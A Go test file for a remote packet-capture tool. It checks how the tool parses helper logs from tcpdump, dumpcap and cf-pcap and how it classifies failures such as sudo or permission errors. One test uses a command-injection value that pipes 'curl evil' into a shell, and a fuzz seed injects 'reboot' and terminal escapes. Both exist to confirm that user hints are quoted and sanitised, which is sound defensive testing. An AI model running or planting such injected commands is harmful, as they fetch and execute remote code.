package remote

import (
	"fmt"
	"runtime"
	"strings"
	"sync"
	"testing"
)

const started = "@sshpcap uid 1000\n@sshpcap connection 10.0.0.1 5 10.0.0.2 22\n@sshpcap self tcp port 22\n@sshpcap helper /usr/bin/tcpdump\n@sshpcap start\n"

const cfStarted = "@sshpcap uid 2000\n@sshpcap self tcp port 2222\n@sshpcap helper /tmp/lifecycle/cf-pcap\n@sshpcap start\n"

// cfError is cf-pcap's line on an error, which is quoted as it has to be.
func cfError(text string) string {
	return "time=2026-11-01T10:00:00.000Z level=ERROR msg=\"failed to set up capture\" error=" + text + "\n"
}

// logged feeds text to a Log in pieces of n bytes.
func logged(text string, n int) *Log {
	l := new(Log)
	for text != "" {
		n := min(n, len(text))
		fmt.Fprint(l, text[:n])
		text = text[n:]
	}
	return l
}

func TestLogReport(t *testing.T) {
	base := Report{Helper: "/usr/bin/tcpdump", Connection: "10.0.0.1 5 10.0.0.2 22", SelfFilter: "tcp port 22", UID: 1000, Started: true}
	for name, tt := range map[string]struct {
		text string
		want func(r *Report)
	}{
		"started": {"", func(r *Report) {}},
		"listening": {"tcpdump: listening on eth0, link-type EN10MB (Ethernet), snapshot length 262144 bytes\n", func(r *Report) {
			r.Listening = "eth0, link-type EN10MB (Ethernet), snapshot length 262144 bytes"
		}},
		"tcpdump": {"12 packets captured\n14 packets received by filter\n2 packets dropped by kernel\n3 packets dropped by interface\n", func(r *Report) {
			r.Captured, r.Filtered, r.Dropped, r.IfDropped, r.Known = 12, 14, 2, 3, true
		}},
		"singular": {"1 packet captured\n1 packet received by filter\n1 packet dropped by kernel", func(r *Report) {
			r.Captured, r.Filtered, r.Dropped, r.Known = 1, 1, 1, true
		}},
		"USR1": {"tcpdump: 5 packets captured, 6 packets received by filter, 1 packet dropped by kernel\n", func(r *Report) {
			r.Captured, r.Filtered, r.Dropped = 5, 6, 1
		}},
		"dumpcap": {"Capturing on 'eth0'\nFile: -\nPackets captured: 8\nPackets received/dropped on interface 'eth: 0/1': 8/3 (pcap:3/dumpcap:0/flushed:0/ps_ifdrop:0) (72.7%)\n", func(r *Report) {
			r.Listening = "'eth0'"
			r.Captured, r.Filtered, r.Dropped, r.Known = 8, 11, 3, true
		}},
		"ended by itself":   {"tcpdump: pcap_loop: what is not a whole line@sshpcap unasked\n", func(r *Report) { r.Unasked = true }},
		"a marker too late": {"@sshpcap helper /bin/evil\n", func(r *Report) {}},
		"too large":         {"99999999999999999999 packets captured\n", func(r *Report) { r.Captured = 1<<64 - 1 }},
	} {
		t.Run(name, func(t *testing.T) {
			want := base
			tt.want(&want)
			for _, n := range []int{1, 7, 1 << 20} {
				l := logged(started+tt.text, n)
				if got := l.Report(); got != want {
					t.Errorf("in pieces of %d:\ngot  %+v\nwant %+v", n, got, want)
				}
			}
		})
	}
	if r := new(Log).Report(); r != (Report{UID: -1}) {
		t.Errorf("of nothing: %+v", r)
	}
}

func TestLogClock(t *testing.T) {
	for in, want := range map[string]int64{
		"1795336800.123456789": 1795336800123456789,
		"1795336800.%N":        1795336800500000000, // busybox
		"1795336800.N":         1795336800500000000, // BSD
		"1795336800":           1795336800500000000,
		"":                     0,
		"soon.000000000":       0,
		"-5.000000000":         0,
	} {
		got := logged("@sshpcap clock "+in+"\n", 3).Report().Clock
		if want == 0 && !got.IsZero() || want != 0 && got.UnixNano() != want {
			t.Errorf("%q is %v", in, got)
		}
	}
}

// TestLogFailure holds the words of versions that are not installed here, and
// those that would take another system to bring about.
func TestLogFailure(t *testing.T) {
	for _, tt := range []struct {
		name, text string
		status     int
		kind       Kind // 0: no failure
		words      string
	}{
		{"all well", started, 0, 0, ""},
		{"no status, no words", started, -1, 0, ""},
		{"stopped by a signal", started + "1 packet captured\n1 packet received by filter\n0 packets dropped by kernel\n", 130, 0, ""},
		{"killed", started, 137, Killed, "signal KILL"},
		{"nologin", "This account is currently not available.\n", 1, NoShell, "This account is currently not available. (exit status 1)"},
		{"nothing", "", 255, NoShell, "without a word"},
		{"restricted", "rbash: line 1: exec: restricted\n", 1, NoShell, "restricted"},
		{"noise before", "bash: /x: Permission denied\n" + started + "tcpdump: syntax error in filter expression: syntax error\n", 1, BadFilter, ": syntax error"},
		{"no helper", "@sshpcap uid 0\n@sshpcap nohelper\n", 127, NoHelper, "no capture program"},
		{"no such path", started + "sh: 1: /opt/tcpdump: not found\n", 127, NoHelper, "/usr/bin/tcpdump"},
		{"cannot run", started + "sh: 1: /usr/bin/tcpdump: Permission denied\n", 126, NoPermission, ""},
		{"libpcap 1.11", started + "tcpdump: eth0: You don't have permission to perform this capture on that device\n(Attempt to create packet socket failed - CAP_NET_RAW may be required)\n", 1, NoPermission, ""},
		{"old libpcap", started + "tcpdump: socket: Operation not permitted\n", 1, NoPermission, ""},
		{"old, no device", started + "tcpdump: SIOCGIFHWADDR: No such device\n", 1, NoInterface, ""},
		{"gone", started + "tcpdump: listening on x\n1 packet captured\n1 packet received by filter\n0 packets dropped by kernel\ntcpdump: pcap_loop: The interface disappeared\n", 1, InterfaceGone, ""},
		{"gone, dumpcap", started + "dumpcap: The network adapter \"x\" is no longer attached; the capture has stopped.\n", 1, InterfaceGone, ""},
		{"gone, with status 0", started + "dumpcap: The network adapter \"x\" is no longer attached; the capture has stopped.\n", 0, InterfaceGone, ""},
		{"words, but all well", started + "tcpdump: syntax error\n", 0, 0, ""},
		{"old, down", started + "tcpdump: pcap_loop: recvfrom: Network is down\n", 1, InterfaceDown, ""},
		{"nflog, filter", started + "tcpdump: NFLOG link-layer type filtering not implemented\n", 1, BadFilter, "filtering not implemented"},
		{"BSD, any", started + "tcpdump: any: No such device exists\n(BIOCSETIF failed: Device not configured)\n", 1, NoInterface, "any: No such device"},
		{"BSD, old, any", started + "tcpdump: BIOCSETIF: any: Device not configured\n", 1, NoInterface, "any: Device not configured"},
		{"old tcpdump", started + "tcpdump: unrecognized option '--immediate-mode'\ntcpdump version 4.5.1\nlibpcap version 1.5.3\nUsage: tcpdump [-aAbdDefhHI]\n", 1, OldHelper, "--immediate-mode"},
		{"snaplen", started + "tcpdump: invalid snaplen 300000\n", 1, BadSnaplen, "300000"},
		{"no vlan on any", started + "tcpdump: data link type LINUX_SLL2\ntcpdump: no VLAN support for Linux cooked v2\n", 1, BadFilter, "no VLAN support"},
		{"sudo missing, dash", started + "sh: 1: exec: sudo: not found\n", 127, NoSudo, ""},
		{"sudo missing, busybox", started + "sshpcap: exec: line 0: sudo: not found\n", 127, NoSudo, ""},
		{"sudo password, old", started + "sudo: no tty present and no askpass program specified\n", 1, SudoPassword, ""},
		{"sudo-rs", started + "sudo: interactive authentication is required\n", 1, SudoPassword, ""},
		{"sudo after a warning", started + "sudo: unable to resolve host x: Name or service not known\nsudo: a password is required\n", 1, SudoPassword, ""},
		{"sudo tty", started + "sudo: sorry, you must have a tty to run sudo\n", 1, SudoTTY, ""},
		{"doas, password", "@sshpcap uid 1000\n@sshpcap start doas\ndoas: Authentication required\n", 1, SudoPassword, "doas asks for a password"},
		{"doas, not permitted", "@sshpcap uid 1000\n@sshpcap start doas\ndoas: Operation not permitted\n", 1, SudoRefused, "doas refuses: Operation not permitted"},
		{"not in sudoers", started + "x is not in the sudoers file.\nThis incident has been reported to the administrator.\n", 1, SudoRefused, "not in the sudoers"},
		{"no setuid", started + "sudo: effective uid is not 0, is /usr/bin/sudo on a file system with the 'nosuid' option set or an NFS file system without root privileges?\n", 1, SudoRefused, ""},
		{"in a container", started + "sudo: The \"no new privileges\" flag is set, which prevents sudo from running as root.\n", 1, SudoRefused, ""},
		{"user tcpdump", started + "tcpdump: Couldn't change to 'tcpdump' uid=102 gid=105: Operation not permitted\n", 1, HelperFailed, "Couldn't change"},
		{"unknown words", started + "tcpdump: out of \x1b[31mcheese\n", 4, HelperFailed, "out of \uFFFD[31mcheese (exit status 4)"},
		{"after a flood", started + strings.Repeat("tcpdump: pcap_loop: whatever\n", 1000) + "tcpdump: pcap_loop: The interface disappeared\n" + strings.Repeat("x\n", 10), 1, InterfaceGone, ""},
		{"before a flood", started + "tcpdump: syntax error\n" + strings.Repeat("x\n", 1000), 1, BadFilter, ""},
		{"cf-pcap, stopped", cfStarted, 0, 0, ""},
		{"cf-pcap, chatter", cfStarted + "time=2026-11-01T10:00:00.000Z level=INFO msg=\"permission denied? No such device\" n=1\n", 1, HelperFailed, "without a word"},
		{"cf-pcap, not enabled", cfStarted + cfError(`"eth0: You don't have permission to perform this capture on that device (socket: Operation not permitted)"`), 1, NotEnabled, "permission to capture: eth0: You don't"},
		{"cf-pcap, one word", cfStarted + cfError(`"Operation not permitted"`), 1, NotEnabled, "Operation"},
		{"cf-pcap, interface", cfStarted + cfError(`"lo9: No such device exists (No such device exists)"`), 1, NoInterface, "lo9"},
		{"cf-pcap, filter", cfStarted + cfError(`"failed to set BPF filter: unknown host 'a\"b\\c'"`), 1, BadFilter, `filter: unknown host 'a"b\c'`},
		{"cf-pcap, cut line", cfStarted + `time=x level=ERROR msg="failed to set up capture" error="failed to set BPF filter: x y`, 1, BadFilter, "filter: x y"},
		{"cf-pcap, unknown", cfStarted + "time=x level=ERROR msg=\"out of \\x1b[31mcheese\" error=\"no\\nshop\"\n", 1, HelperFailed, "out of \uFFFD[31mcheese: no shop (exit status 1)"},
		{"cf-pcap, flag", cfStarted + "flag provided but not defined: -x\nUsage of cf-pcap:\n  -v\n", 2, OldHelper, "-x"},
		{"cf-pcap, usage", cfStarted + "usage: something\n", 2, OldHelper, "used here: something"},
		{"cf-pcap, panic", cfStarted + "panic: oh no\n\ngoroutine 1 [running]:\nmain.main()\n", 2, HelperFailed, ""},
		{"cf-pcap missing, dash", cfStarted + "/bin/sh: 1: eval: /tmp/lifecycle/cf-pcap: not found\n", 127, NoHelper, "no /tmp/lifecycle/cf-pcap"},
		{"cf-pcap missing, bash", cfStarted + "sshpcap: line 1: /tmp/lifecycle/cf-pcap: No such file or directory\n", 127, NoHelper, "no /tmp/lifecycle/cf-pcap"},
		{"cf-pcap, other machine", cfStarted + "sshpcap: line 1: /tmp/lifecycle/cf-pcap: cannot execute binary file: Exec format error\n", 126, NoHelper, "on the instance: cannot execute binary file: Exec format error"},
		{"cf-pcap, ended", cfStarted, 143, Killed, "signal TERM"},
		{"cf-pcap, down", cfStarted + cfError(`"eth0: That device is not up"`), 1, InterfaceDown, "eth0"},
		{"no words", started, 1, HelperFailed, "without a word"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			f := logged(tt.text, 1<<20).Failure(tt.status)
			if tt.kind == 0 {
				if f != nil {
					t.Fatalf("%+v", f)
				}
				return
			}
			if f == nil || f.Kind != tt.kind || !strings.Contains(f.Problem, tt.words) {
				t.Fatalf("%+v, want %v with %q", f, tt.kind, tt.words)
			}
			checkFailure(t, f)
		})
	}
}

// TestHintsAreQuoted: what an instance says its helper is cannot become a command in a hint that a user may copy.
func TestHintsAreQuoted(t *testing.T) {
	const evil = "/bin/it's; curl evil|sh #$(id)"
	for _, text := range []string{"x: broken\n", "x: You don't have permission to perform this capture\n", "sudo: a password is required\n"} {
		l := logged("@sshpcap helper "+evil+"\n@sshpcap start\n"+text, 1<<20)
		if f := l.Failure(1); f == nil || strings.Contains(f.Tip, evil) || !strings.Contains(f.Tip, Quote(evil)) {
			t.Errorf("%+v", f)
		}
	}
}

// checkFailure sees that a failure can be shown.
func checkFailure(t *testing.T, f *Failure) {
	t.Helper()
	if f.Error() == "" || f.Hint() == "" || f.Kind.String() == "" {
		t.Errorf("%+v", f)
	}
	for _, s := range []string{f.Problem, f.Tip} {
		if len(s) > 4*maxClean || strings.ContainsAny(s, "\n\r\x1b") {
			t.Errorf("%q", s)
		}
	}
}

// TestLogBounded floods a Log and reads it at the same time.
func TestLogBounded(t *testing.T) {
	l := logged(started, 99)
	var wg sync.WaitGroup
	wg.Go(func() {
		for range 200 {
			l.Report()
			l.Failure(1)
		}
	})
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	chunk := []byte(strings.Repeat("x", 64<<10))
	for range 160 {
		l.Write(chunk) // one line without an end
	}
	chunk = []byte(strings.Repeat("tcpdump: blah blah packet\n", 3000))
	for range 5 {
		l.Write(chunk)
	}
	wg.Wait()
	runtime.GC()
	runtime.ReadMemStats(&after)
	if grown := int64(after.HeapAlloc) - int64(before.HeapAlloc); grown > 1<<20 {
		t.Errorf("grew by %d bytes", grown)
	}
	if cap(l.line) > 2*maxLine {
		t.Errorf("keeps %d bytes", cap(l.line))
	}
	runtime.KeepAlive(l)
}

func FuzzLog(f *testing.F) {
	f.Add([]byte(started+"tcpdump: syntax error\n"), 1, 3)
	f.Add([]byte("@sshpcap uid -99999999999999999999\n@sshpcap \n@sshpcap"), 255, 1)
	f.Add([]byte(started+"dumpcap: Invalid capture filter \"x\" for\nThat string isn't a valid capture filter (\n)"), 1, 2)
	f.Add([]byte(started+"Packets received/dropped on interface '': 1/99999999999999999999999 (pcap:"), 137, 9)
	f.Add([]byte(cfStarted+cfError(`"a \"\x1b\" b"`)+"time= level=\"\"x msg= = ==\n"), 1, 5)
	f.Add([]byte(cfStarted+"flag provided but not defined: -x\n"), 2, 4)
	f.Add([]byte("@sshpcap clock 1795336800.123456789\n@sshpcap clock 999999999999999999.-00000001\n@sshpcap host a b\n@sshpcap nohelper\n"), 1, 2)
	f.Add([]byte("@sshpcap helper /x; reboot #\x1b[2J\u202e\n@sshpcap start sudo\nsudo: a password is required\n"), 1, 2)
	f.Fuzz(func(t *testing.T, text []byte, status, n int) {
		l := logged(string(text), max(n, 1))
		whole := logged(string(text), 1<<20)
		if l.Report() != whole.Report() {
			t.Errorf("in pieces of %d: %+v, at once %+v", n, l.Report(), whole.Report())
		}
		r := l.Report()
		for _, s := range []string{r.Helper, r.Connection, r.SelfFilter, r.Listening} {
			checkClean(t, s)
		}
		if cap(l.line) > 2*maxLine {
			t.Errorf("keeps %d bytes", cap(l.line))
		}
		if !r.Clock.IsZero() && (r.Clock.Unix() <= 0 || r.Clock.Unix() >= 1<<48) {
			t.Errorf("the clock is %v", r.Clock)
		}
		if f := l.Failure(status); f != nil {
			checkFailure(t, f)
		}
	})
}

// TestLogAnswersBetween puts the answers to clock questions between the pieces of a helper's words: they are the same
// as without.
func TestLogAnswersBetween(t *testing.T) {
	const begin = "@sshpcap clock 1700000000.5\n@sshpcap helper /usr/bin/tcpdump\n@sshpcap start\n"
	pieces := []string{"tcpdump: ", "any: ", "You don't have permission to perform this capture on that device", "\n", "(socket: ", "Operation not permitted)", "\n"}
	var whole Log
	whole.Write([]byte(begin + strings.Join(pieces, "")))
	want := whole.Failure(1)
	for answers := range 1 << len(pieces) {
		var log Log
		log.Write([]byte(begin))
		n := 1
		for i, piece := range pieces {
			if answers&(1<<i) != 0 {
				n++
				fmt.Fprintf(&log, "@sshpcap clock %d.000000000\n", 1700000000+n)
			}
			log.Write([]byte(piece))
		}
		if got := log.Failure(1); got == nil || *got != *want {
			t.Errorf("%b: %+v, want %+v", answers, got, want)
		}
		if got, shows := log.Clock(); got != n || n > 1 && shows.Unix() != int64(1700000000+n) {
			t.Errorf("%b: %d answers, the last %v, want %d", answers, got, shows, n)
		}
	}
}
